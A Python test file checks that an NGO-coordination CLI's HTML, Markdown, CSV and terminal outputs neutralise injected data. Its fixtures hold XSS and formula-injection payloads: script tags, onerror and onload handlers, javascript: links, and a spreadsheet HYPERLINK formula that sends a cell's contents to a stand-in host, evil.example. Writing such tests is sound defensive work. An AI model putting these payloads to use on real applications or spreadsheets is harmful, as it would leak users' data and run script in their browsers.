"""Output safety: data never becomes markup, script, a link target or a spreadsheet formula.

One dataset carries an injection in every text field that can reach an output (names, acronyms,
titles, descriptions, sites, counterparts, sources' titles and URLs, and every codelist's names);
each field's payload starts with a different formula character (= + - @ tab CR).
"""

from __future__ import annotations

import copy
import csv
import io
import re
from html.parser import HTMLParser

import pytest
from typer.testing import CliRunner

from ngocoord.cli import app
from ngocoord.render import tabular
from tests.conftest import TINY_CODELISTS, activity, org, write_dataset

runner = CliRunner()
AS_OF = "2026-07-01"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def payload(tag: str, start: str = "=") -> str:
    return (f'{start}HYPERLINK("http://evil.example/?"&A1,"{tag}")<script>alert("{tag}")</script>'
            f'"\'><img src=x onerror=alert("{tag}")>|{tag}|<a href="javascript:alert(1)">x</a>')


FIELDS = {  # where the payload sits -> its tag
    "org-a name": payload("org-a-name", "="), "org-a acronym": payload("org-a-acronym", "+"),
    "org-b name": payload("org-b-name", "@"), "org-a notes": payload("org-a-notes", "-"),
    "act-1 title": payload("act-1-title", "-"), "act-1 description": payload("act-1-description", "\t"),
    "act-1 site": payload("act-1-site", "\r"), "act-1 counterpart": payload("act-1-counterpart", "="),
    "act-1 source title": payload("act-1-source-title", "@"), "act-2 title": payload("act-2-title", "+"),
    "stale title": payload("stale-title", "="),
    "sector name": payload("sector-name", "="), "service name": payload("service-name", "+"),
    "governorate name": payload("governorate-name", "-"), "district name": payload("district-name", "@"),
    "region name": payload("region-name", "\t"), "population name": payload("population-name", "\r"),
    "org-type name": payload("org-type-name", "="),
}
EVIL_URL = 'https://example.org/"><script>alert("url")</script><svg/onload=alert(1)>'


def injected_codelists() -> dict:
    c = copy.deepcopy(TINY_CODELISTS)
    c["sectors"]["sectors"][0]["name"] = FIELDS["sector name"]            # protection
    c["services"]["services"][0]["name"] = FIELDS["service name"]         # legal-aid
    c["areas"]["areas"][1]["name"] = FIELDS["governorate name"]           # G1
    c["areas"]["areas"][4]["name"] = FIELDS["district name"]              # G1D1
    c["areas"]["regions"][0]["name"] = FIELDS["region name"]              # kri
    c["populations"]["populations"][0]["name"] = FIELDS["population name"]  # prisoners
    c["org-types"]["org_types"][1]["name"] = FIELDS["org-type name"]      # nngo
    return c


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    orgs = [org("org-a", name=FIELDS["org-a name"], acronym=FIELDS["org-a acronym"], notes=FIELDS["org-a notes"],
                website=EVIL_URL, sources=[{"title": "t", "url": EVIL_URL}]),
            org("org-b", name=FIELDS["org-b name"])]
    acts = [activity("act-1", title=FIELDS["act-1 title"], description=FIELDS["act-1 description"],
                     population=["prisoners"], start="2025-01", counterparts=[FIELDS["act-1 counterpart"]],
                     locations=[{"area": "G1D1", "site": FIELDS["act-1 site"]}],
                     sources=[{"title": FIELDS["act-1 source title"], "url": EVIL_URL}]),
            activity("act-2", organization="org-b", title=FIELDS["act-2 title"], population=["prisoners"]),
            activity("act-stale", title=FIELDS["stale title"], last_reviewed="2020-01-01")]
    root = write_dataset(tmp_path_factory.mktemp("evil") / "data", orgs, acts, injected_codelists())
    lint = runner.invoke(app, ["lint", "--data", str(root), "--format", "json", "--as-of", AS_OF])
    assert '"errors": 0' in lint.stdout, lint.stdout  # every payload is valid data: the outputs must cope
    return root


def run(root, *args) -> str:
    result = runner.invoke(app, [*args, "--data", str(root)])
    assert result.exit_code == 0, (args, result.stderr)
    return result.stdout


class Page(HTMLParser):
    """Elements, attributes, scripts and text of an HTML page, as a browser would parse them."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs, self.scripts, self.text = [], [], [], []
        self._in_script = False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.text).append(data)


@pytest.fixture(scope="module")
def pages(evil):
    return {flag: run(evil, "report", "--format", "html", "--as-of", AS_OF, "--region", "IQ", *flag)
            for flag in ((), ("--include-sensitive",))}


@pytest.mark.parametrize("flag", [(), ("--include-sensitive",)], ids=["default", "include-sensitive"])
def test_html_report_runs_no_script_from_the_data(pages, flag):
    page = Page(pages[flag])
    assert page.tags.count("script") == 1 and "alert" not in "".join(page.scripts)  # only the report's own script
    assert "img" not in page.tags and "iframe" not in page.tags
    handlers = [(t, k) for t, k, _ in page.attrs if k.startswith("on")]
    assert handlers == []


@pytest.mark.parametrize("flag", [(), ("--include-sensitive",)], ids=["default", "include-sensitive"])
def test_html_report_links_only_to_http(pages, flag):
    page = Page(pages[flag])
    targets = [v for t, k, v in page.attrs if k in ("href", "src", "action", "formaction", "xlink:href")]
    for target in targets:
        assert re.match(r"^(https?://|#)", target.strip(), re.IGNORECASE), target
    assert [v for v in targets if v.startswith("https://example.org/")] == [EVIL_URL]  # kept whole, inside the quotes


def test_html_report_shows_every_field_as_text(pages, evil):
    text = "".join(Page(pages[("--include-sensitive",)]).text)
    shown = {field for field, value in FIELDS.items() if value.strip() in text}
    # fields a report does not show (notes, descriptions, counterparts, sources' titles, populations) cannot inject
    assert shown >= {"org-a name", "org-b name", "act-1 title", "act-2 title", "stale title", "sector name",
                     "service name", "governorate name", "district name", "act-1 site", "org-type name"}

def test_html_report_region_name_is_text(evil):
    page = Page(run(evil, "report", "--format", "html", "--as-of", AS_OF, "--region", "kri"))
    assert FIELDS["region name"].strip() in "".join(page.text)
    assert page.tags.count("script") == 1 and "img" not in page.tags


@pytest.mark.parametrize("flag", [(), ("--include-sensitive",)], ids=["default", "include-sensitive"])
def test_markdown_report_escapes_html_and_pipes(evil, flag):
    md = run(evil, "report", "--format", "markdown", "--as-of", AS_OF, "--region", "IQ", *flag)
    assert "<script" not in md and "<img" not in md and "<a " not in md
    assert "](javascript:" not in md
    for table in re.findall(r"(?:^\|.*\|\n)+", md, re.MULTILINE):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert len(widths) == 1, table  # a '|' in the data never adds a cell


def test_library_markdown_escapes():
    out = tabular.as_markdown(["a|b", "<i>"], [["x|y<script>", "line\nbreak"]])
    assert out == "| a\\|b | &lt;i&gt; |\n|---|---|\n| x\\|y&lt;script&gt; | line break |\n"


@pytest.mark.parametrize("start", FORMULA)
def test_library_csv_neutralises_formula_cells(start):
    out = tabular.as_csv([f"{start}head"], [[f"{start}cell"], ["plain"], [-3]])
    rows = list(csv.reader(io.StringIO(out, newline="")))
    start = start.replace("\r", "\n")  # a bare CR would end the row in a reader: it becomes a quoted LF
    assert rows == [[f"'{start}head"], [f"'{start}cell"], ["plain"], ["'-3"]]


def test_library_csv_keeps_rows_whole():
    out = tabular.as_csv(["a", "b"], [["one\rtwo", "three\r\nfour"], ["x", "y"]])
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["a", "b"], ["one\ntwo", "three\nfour"], ["x", "y"]]


def csv_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows for cell in row]


CSV_COMMANDS = [
    ["export", "--format", "csv"], ["export", "--format", "csv", "--include-sensitive"],
    ["export", "--format", "hxl"], ["export", "--format", "hxl", "--include-sensitive"],
    ["gaps", "--region", "kri", "--format", "csv", "--as-of", AS_OF],
    ["gaps", "--region", "kri", "--sector", "protection", "--format", "csv", "--as-of", AS_OF],
    ["duplicates", "--format", "csv", "--as-of", AS_OF],
    ["activities", "--format", "csv"], ["orgs", "--format", "csv"],
    ["codes", "areas", "--format", "csv"], ["codes", "sectors", "--format", "csv"], ["codes", "services", "--format", "csv"],
    ["codes", "populations", "--format", "csv"], ["codes", "org-types", "--format", "csv"],
]


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=[" ".join(c[:3]) for c in CSV_COMMANDS])
def test_every_csv_output_neutralises_formulas(evil, command):
    known = {c.name or c.callback.__name__ for c in app.registered_commands}
    if command[0] not in known:
        pytest.skip(f"{command[0]} is not built yet")
    result = runner.invoke(app, [*command, "--data", str(evil)])
    if result.exit_code == 2 and "No such option: --format" in result.stderr:
        pytest.skip(f"{command[0]} has no CSV output")
    assert result.exit_code == 0, result.stderr
    cells = csv_cells(result.stdout)
    dangerous = [c for c in cells if c.startswith(FORMULA)]
    assert dangerous == []
    payloads = [c for c in cells if "HYPERLINK" in c]
    if command[0] not in ("duplicates", "activities"):  # those two list ids and codes only
        assert payloads, "the injected names should reach this output"


def test_tables_never_read_data_as_rich_markup(tmp_path):
    """rich would turn '[link=…]' into a terminal hyperlink and '[bold]' into style: data stays text."""
    markup = "[link=http://evil.example]Legal[/link] [bold red]aid[/]"
    codelists = copy.deepcopy(TINY_CODELISTS)
    codelists["sectors"]["sectors"][0]["name"] = markup
    codelists["areas"]["areas"][4]["name"] = markup
    root = write_dataset(tmp_path / "data", [org("org-a", name=markup)],
                         [activity("act-1", title=markup, start="2025-01")], codelists)
    for command in (["activities"], ["orgs"], ["show", "act-1"], ["codes", "sectors"], ["codes", "areas"],
                    ["gaps", "--region", "kri", "--level", "2", "--as-of", AS_OF]):
        result = runner.invoke(app, [*command, "--data", str(root)], env={"COLUMNS": "500"})
        assert result.exit_code == 0, (command, result.stderr)
        assert markup in result.stdout, (command, result.stdout[:600])


def test_github_job_summary_holds_no_link_or_html_from_the_data(tmp_path):
    """A value such as '[Click to fix](https://evil.example)' is echoed by lint; in the job summary
    (Markdown, shown by GitHub) it must stay text, not become a link, HTML or a cell break."""
    root = write_dataset(tmp_path / "data", [org("org-a")],
                         [activity("act-1", sector="[Click to fix](https://evil.example) <img src=x> | x")])
    summary = tmp_path / "summary.md"
    result = runner.invoke(app, ["lint", "--data", str(root), "--as-of", AS_OF],
                           env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)})
    assert result.exit_code == 1
    text = summary.read_text(encoding="utf-8")
    assert "\\[Click to fix\\](https\\://evil.example) &lt;img src=x&gt; \\| x" in text
    assert "<img" not in text and "[Click to fix](" not in text
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in rows} == {6}
